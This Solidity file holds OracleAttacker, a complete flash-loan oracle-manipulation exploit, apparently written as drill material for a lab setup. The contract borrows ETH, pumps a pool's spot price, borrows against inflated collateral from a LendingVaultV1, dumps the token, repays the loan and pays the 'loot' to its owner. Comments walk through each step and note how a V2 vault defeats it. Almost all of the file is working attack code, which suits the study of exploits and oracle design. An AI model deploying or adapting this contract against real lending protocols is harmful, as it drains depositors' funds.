// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FlashLender, IETHFlashBorrower} from "./FlashLender.sol";
import {SpotPool} from "./SpotPool.sol";

/// @dev The lending-vault functions the attacker needs (every LendingVault
/// version has them).
interface ILendingVault {
    function depositCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
    function maxBorrow(address account) external view returns (uint256);
    function debt(address account) external view returns (uint256);
}

/// @title OracleAttacker - exploits LendingVaultV1's spot-price oracle (drill material)
/// @notice How the attack works, for `attack{value: 3 ether}(100 ether, 11 ether)`
/// against a 100 ETH / 10,000 DCOL pool:
///   1. flash-borrow 100 ETH from the FlashLender;
///   2. in onFlashLoan, buy DCOL with all of it: the pool goes to about
///      200 ETH / 5,000 DCOL, so DCOL's spot price goes from 0.01 to about
///      0.04 ETH;
///   3. deposit just enough DCOL (~370) that, at the pumped price, 75% of
///      its value covers 11 ETH, and borrow 11 ETH from the vault;
///   4. sell the remaining DCOL back (the price falls back to about where
///      it was; the round trip costs the 0.3% fees and the price impact on
///      the DCOL left in the vault);
///   5. repay 100 ETH plus the 0.05 ETH fee to the lender;
///   6. send everything left to the owner.
/// The vault is left with 11 ETH of debt against collateral worth ~3.7 ETH
/// at the real price, and never sees the debt repaid. The ETH sent with
/// attack() covers the round trip's cost. Against LendingVaultV2 step 3
/// reverts ("borrow above collateral value": the vault still prices DCOL at
/// the block's opening 0.01 ETH), so the whole transaction reverts.
contract OracleAttacker is IETHFlashBorrower {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
    uint256 private constant LTV_BPS = 7500;

    /// @notice Who deployed this contract and receives the loot.
    address public immutable owner;
    /// @notice The lending vault (its proxy address) under attack.
    ILendingVault public immutable vault;
    /// @notice The pool whose spot price the vault trusts.
    SpotPool public immutable pool;
    /// @notice Where the capital comes from.
    FlashLender public immutable lender;
    /// @notice The collateral token.
    IERC20 public immutable token;

    /// @notice Emitted inside the flash loan: the spot price before and
    /// after the pump, the collateral deposited and the ETH borrowed.
    event Pumped(uint256 priceBefore, uint256 pumpedPrice, uint256 collateral, uint256 borrowed);
    /// @notice Emitted once per attack: the loan and what the owner got.
    event Looted(uint256 loan, uint256 payout);

    constructor(address vault_, address pool_, address lender_, address token_) {
        owner = msg.sender;
        vault = ILendingVault(vault_);
        pool = SpotPool(pool_);
        lender = FlashLender(payable(lender_));
        token = IERC20(token_);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    /// @notice Flash-borrow `loan` wei, pump the pool with it and borrow up
    /// to `take` wei from the vault (less if it holds less). Send a few ETH
    /// with the call to cover the swaps' round trip and the loan fee.
    function attack(uint256 loan, uint256 take) external payable onlyOwner {
        lender.flashLoan(this, lender.ETH(), loan, abi.encode(take));
        uint256 payout = address(this).balance;
        (bool ok, ) = owner.call{value: payout}("");
        require(ok, "payout failed");
        emit Looted(loan, payout);
    }

    /// @notice The flash loan's callback: steps 2 to 5.
    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        payable
        returns (bytes32)
    {
        require(msg.sender == address(lender) && initiator == address(this), "untrusted loan");
        uint256 take = abi.decode(data, (uint256));

        // 2. pump: buy DCOL with the whole loan.
        uint256 priceBefore = pool.spotPrice();
        pool.swapExactETHForTokens{value: amount}(0);

        // 3. borrow against a little DCOL at the pumped price. The vault
        // allows floor(floor(c * p / 1e18) * 7500 / 10000), so round up
        // twice: m is the collateral value needed, c the tokens worth m.
        // The collateral of earlier attacks, at today's pumped price, may
        // cover less than their debt: top it up to cover the debt too.
        if (take > address(vault).balance) take = address(vault).balance;
        uint256 price = pool.spotPrice();
        uint256 owed = vault.debt(address(this)) + take;
        uint256 have = vault.maxBorrow(address(this));
        uint256 c = 0;
        if (owed > have) {
            uint256 m = ((owed - have) * 10000 + LTV_BPS - 1) / LTV_BPS;
            c = (m * 1e18 + price - 1) / price;
            if (have > 0) c += 2; // the vault rounds the sum down, not each part
            token.approve(address(vault), c);
            vault.depositCollateral(c);
        }
        vault.borrow(take);
        emit Pumped(priceBefore, price, c, take);

        // 4. dump the rest of the DCOL.
        uint256 rest = token.balanceOf(address(this));
        token.approve(address(pool), rest);
        pool.swapExactTokensForETH(rest, 0);

        // 5. repay the lender.
        (bool ok, ) = address(lender).call{value: amount + fee}("");
        require(ok, "repay failed");
        return CALLBACK_SUCCESS;
    }

    /// @notice The loan, the pool's ETH and the vault's ETH arrive here.
    receive() external payable {}
}
